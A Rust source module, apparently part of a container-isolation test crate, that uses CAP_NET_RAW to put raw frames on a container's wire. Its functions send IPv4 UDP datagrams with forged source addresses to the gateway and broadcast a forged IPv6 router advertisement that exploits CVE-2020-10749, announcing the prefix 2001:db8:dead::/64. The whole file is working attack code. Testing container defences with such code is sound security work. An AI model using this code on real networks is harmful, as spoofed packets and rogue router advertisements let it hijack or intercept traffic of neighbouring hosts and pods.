//! Raw frames that a container with CAP_NET_RAW (a default of every runtime) can put on its wire.
#![allow(unsafe_code, reason = "an attacker makes raw system calls")]

use std::io;
use std::net::{Ipv4Addr, Ipv6Addr};

/// Sends a frame on `eth0`.
fn send(ether_type: u16, payload: &[u8], to: [u8; 6]) -> io::Result<()> {
    let text = |file: &str| std::fs::read_to_string(format!("/sys/class/net/eth0/{file}"));
    let index: i32 = text("ifindex")?.trim().parse().map_err(io::Error::other)?;
    let own = hardware(&text("address")?)?;
    let frame = [&to[..], &own, &ether_type.to_be_bytes(), payload].concat();
    // SAFETY: plain system calls; the address is a zeroed C structure that outlives them, the frame a live slice.
    unsafe {
        let socket = libc::socket(
            libc::AF_PACKET,
            libc::SOCK_RAW,
            i32::from(ether_type.to_be()),
        );
        if socket < 0 {
            return Err(io::Error::last_os_error());
        }
        let mut address: libc::sockaddr_ll = std::mem::zeroed();
        address.sll_family = u16::try_from(libc::AF_PACKET).unwrap_or_default();
        address.sll_ifindex = index;
        address.sll_halen = 6;
        address.sll_addr[..6].copy_from_slice(&to);
        let length = u32::try_from(size_of::<libc::sockaddr_ll>()).unwrap_or_default();
        let sent = libc::sendto(
            socket,
            frame.as_ptr().cast(),
            frame.len(),
            0,
            std::ptr::from_ref(&address).cast(),
            length,
        );
        let outcome = if sent < 0 {
            Err(io::Error::last_os_error())
        } else {
            Ok(())
        };
        libc::close(socket);
        outcome
    }
}

fn checksum(bytes: &[u8]) -> u16 {
    let mut sum = bytes.chunks(2).fold(0_u32, |sum, pair| {
        sum + u32::from(u16::from_be_bytes([
            pair[0],
            pair.get(1).copied().unwrap_or(0),
        ]))
    });
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or_default()
}

/// A datagram with any source, put on the wire past the pod's own routes.
pub(crate) fn datagram(from: Ipv4Addr, to: Ipv4Addr, port: u16, text: &str) -> io::Result<()> {
    let length = u16::try_from(8 + text.len()).map_err(io::Error::other)?;
    let mut header = vec![0x45, 0];
    header.extend((20 + length).to_be_bytes());
    header.extend([0, 1, 0, 0, 64, 17, 0, 0]);
    header.extend(from.octets());
    header.extend(to.octets());
    let sum = checksum(&header);
    header[10..12].copy_from_slice(&sum.to_be_bytes());
    header.extend(4242_u16.to_be_bytes());
    header.extend(port.to_be_bytes());
    header.extend(length.to_be_bytes());
    // No checksum is one that needs no checking.
    header.extend([0, 0]);
    header.extend(text.as_bytes());
    send(0x0800, &header, gateway_hardware()?)
}

/// The host's end of the wire: frames to everybody are not passed on.
fn gateway_hardware() -> io::Result<[u8; 6]> {
    let routes = std::fs::read_to_string("/proc/net/route")?;
    let gateway = routes
        .lines()
        .filter_map(|line| {
            let mut fields = line.split_whitespace().skip(1);
            let (destination, gateway) = (fields.next()?, fields.next()?);
            let gateway = u32::from_str_radix(gateway, 16).ok()?;
            (destination == "00000000").then_some(Ipv4Addr::from(u32::from_be(gateway)))
        })
        .next()
        .ok_or(io::ErrorKind::NotFound)?;
    let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
    for _ in 0..500 {
        // Asked for, the kernel looks for the neighbour.
        let _ = socket.send_to(b"x", (gateway, 53));
        let neighbours = std::fs::read_to_string("/proc/net/arp")?;
        let found = neighbours.lines().find_map(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let complete = fields.get(2) == Some(&"0x2");
            (fields.first()? == &gateway.to_string() && complete).then(|| fields[3].to_owned())
        });
        if let Some(text) = found {
            return hardware(&text);
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    Err(io::ErrorKind::TimedOut.into())
}

fn hardware(text: &str) -> io::Result<[u8; 6]> {
    let mut address = [0_u8; 6];
    for (byte, word) in address.iter_mut().zip(text.trim().split(':')) {
        *byte = u8::from_str_radix(word, 16).map_err(io::Error::other)?;
    }
    Ok(address)
}

/// The prefix that [`router`] says it leads to.
pub(crate) const ADVERTISED: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xdead, 0, 0, 0, 0, 0);

/// "I am your router, and this is your network" (CVE-2020-10749).
pub(crate) fn router() -> io::Result<()> {
    let from = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0x66).octets();
    let to = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1).octets();
    // Hop limit 64, lifetime half an hour; a network of 64 bits for addresses of one's own.
    let mut message = vec![134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0];
    message.extend([3, 4, 64, 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0]);
    message.extend(ADVERTISED.octets());
    let length = u16::try_from(message.len()).map_err(io::Error::other)?;
    let pseudo = [
        &from[..],
        &to,
        &u32::from(length).to_be_bytes(),
        &[0, 0, 0, 58],
        &message,
    ]
    .concat();
    let sum = checksum(&pseudo);
    message[2..4].copy_from_slice(&sum.to_be_bytes());
    let mut packet = vec![0x60, 0, 0, 0];
    packet.extend(length.to_be_bytes());
    packet.extend([58, 255]);
    packet.extend(from);
    packet.extend(to);
    packet.extend(message);
    send(0x86dd, &packet, [0x33, 0x33, 0, 0, 0, 1])
}
